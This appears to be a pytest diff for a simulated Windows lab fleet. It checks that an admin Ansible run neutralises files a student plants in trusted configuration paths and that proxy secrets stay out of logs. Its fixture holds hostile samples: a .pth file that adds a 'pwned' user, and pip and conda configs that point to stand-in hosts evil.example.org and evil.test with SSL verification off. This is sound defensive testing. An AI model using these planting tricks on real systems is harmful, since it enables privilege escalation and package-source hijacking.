@@ -1,0 +1,138 @@
+"""Lab security on simulated workstations: a student (a plain local user) plants files where the fleet's
+admin run reads configuration or runs code, before the first run; the run neither follows nor runs them,
+moves them aside, and afterwards playbooks/audit.yml finds no trusted path a non-admin can write.
+
+The simulated host applies Windows' default ACLs (tests/simwin/host.py): a student may create folders at
+C:\\ and files in C:\\ProgramData subfolders, and owns what they create.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+from pathlib import Path
+
+import pytest
+from simwin import lab as simlab
+from simwin.testing import Lab, make_lab
+
+pytestmark = pytest.mark.slow
+
+ROOT = Path(__file__).resolve().parents[2]
+CERT = ROOT / "files" / "demo-lab-root-ca.crt"
+HOSTILE_RECORD = json.dumps(
+    {
+        "version": 1,
+        "files": ["C:\\Python27\\ArcGIS10.4\\python.exe"],
+        "dirs": ["C:\\Users\\svc_fleet"],
+        "store": ["CDD4EEAE6000AC7F40C3802C171E30148030C072"],
+    }
+)
+PLANTED = {
+    "C:\\ProgramData\\arcgis-conda\\doi_cert-state.json": HOSTILE_RECORD,
+    "C:\\ProgramData\\conda\\condarc.d\\zz.yml": "channels: [https://evil.test/c]\nssl_verify: false\n",
+    "C:\\ProgramData\\pip\\pip.ini": "[global]\nindex-url = https://evil.example.org/simple\n",
+    "C:\\ProgramData\\arcgis-conda\\certs\\ca-bundle.pem": "-----BEGIN CERTIFICATE-----\nevil\n",
+    "C:\\Python27\\ArcGIS10.4\\Lib\\site-packages\\evil.pth": "import os; os.system('net user pwned /add')\n",
+}
+
+
+def run(lab: Lab, playbook: str, *extra: str) -> tuple[int, str]:
+    vars_file = lab.dir / "extra.json"
+    vars_file.write_text(json.dumps({"doi_cert_certificates": [{"path": str(CERT)}]}))
+    lab.reset_calls()
+    proc = simlab.run(
+        lab.dir, ["ansible-playbook", playbook, "-e", f"@{vars_file}", *extra], capture_output=True, text=True
+    )
+    return proc.returncode, proc.stdout + proc.stderr
+
+
+def report(lab: Lab) -> dict:
+    rows = json.loads((lab.dir / "reports" / "lab_sim.json").read_text())["hosts"]
+    return {row["host"]: row for row in rows}
+
+
+@pytest.fixture(scope="module")
+def planted(tmp_path_factory) -> Lab:
+    lab = make_lab(tmp_path_factory.mktemp("planted"), "reference")
+    with lab.edit() as host:
+        student = host.as_user("student1")
+        for path, text in PLANTED.items():
+            folder = path.rsplit("\\", 1)[0]
+            parts = folder.split("\\")
+            for depth in range(2, len(parts) + 1):
+                sub = "\\".join(parts[:depth])
+                if not host.exists(sub):
+                    student.mkdir(sub)
+            student.write_file(path, text)
+    return lab
+
+
+def test_the_audit_reports_what_a_student_planted(planted: Lab) -> None:
+    rc, out = run(planted, "playbooks/audit.yml")
+    assert rc != 0, out
+    found = {f["path"].lower() for f in report(planted)[planted.hosts[0]]["audit"]}
+    for path in PLANTED:
+        assert path.lower() in found, f"the audit missed {path}: {sorted(found)}"
+
+
+def test_the_run_never_follows_a_planted_file_and_leaves_nothing_writable(planted: Lab) -> None:
+    rc, out = run(planted, "site.yml")
+    assert rc == 0, out
+    host = planted.host()
+    # Nothing the hostile record names was touched; the evil .pth never ran as admin (it was moved aside
+    # before any Python started after the plan) and no planted content is left where it was.
+    assert host.exists("C:\\Python27\\ArcGIS10.4\\python.exe")
+    assert host.exists("C:\\Users\\svc_fleet")
+    for path, text in PLANTED.items():
+        assert host.exists(path + ".untrusted"), f"{path} was not moved aside"
+        if host.exists(path):
+            assert host.node_bytes(host.node(path)) != text.encode(), f"{path} still holds the planted content"
+    assert not host.exists("C:\\Python27\\ArcGIS10.4\\Lib\\site-packages\\evil.pth")
+    assert "pwned" not in json.dumps(host.state.get("users"))
+    pip = host.node_bytes(host.node("C:\\ProgramData\\pip\\pip.ini")).decode()
+    assert (
+        "evil.example.org" not in pip and "cert = C:\\ProgramData\\arcgis-conda\\certs\\ca-bundle.pem" in pip
+    )
+
+    rc, out = run(planted, "playbooks/audit.yml")
+    assert rc == 0, out
+    assert report(planted)[planted.hosts[0]]["audit"] == []
+    # A student can no longer add anything there.
+    with planted.edit() as h, pytest.raises(Exception, match=r"(?i)denied"):
+        h.as_user("student1").write_file("C:\\ProgramData\\conda\\condarc.d\\zz2.yml", "ssl_verify: false\n")
+
+    rc, out = run(planted, "site.yml")
+    assert rc == 0, out
+    assert "changed=0" in out and report(planted)[planted.hosts[0]]["planned"] == []
+
+
+def test_a_miniconda_folder_a_student_made_first_stops_the_host_before_any_change(tmp_path: Path) -> None:
+    lab = make_lab(tmp_path, "desktop1041")
+    with lab.edit() as host:
+        host.as_user("student1").mkdir("C:\\Miniconda2")
+        host.as_user("student1").write_file("C:\\Miniconda2\\python.exe", "not python")
+    rc, out = run(lab, "site.yml")
+    assert rc != 0
+    assert (
+        "C:\\\\Miniconda2 already exists and is owned by" in out or "C:\\Miniconda2 already exists" in out
+    ), out
+    effects = [e for c in lab.calls() if c.get("kind") == "module" for e in c.get("effects") or []]
+    assert effects == []
+
+
+def test_secrets_stay_out_of_a_verbose_run(tmp_path: Path) -> None:
+    lab = make_lab(tmp_path, "pro33")
+    secret = "s3cr3t-Proxy-Pa55"
+    extra = lab.dir / "proxy.json"
+    extra.write_text(json.dumps({"miniconda_proxy": f"http://fleet:{secret}@proxy.example.org:3128"}))
+    rc, out = run(lab, "site.yml", "-e", f"@{extra}", "-vvv")
+    assert rc == 0, out[-3000:]
+    assert secret not in out
+    for blob in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", out):  # file bytes travel base64-encoded
+        try:
+            decoded = base64.b64decode(blob + "=" * (-len(blob) % 4)).decode("utf-8", "replace")
+        except ValueError:
+            continue
+        assert secret not in decoded, "a file's bytes with the proxy password were printed"
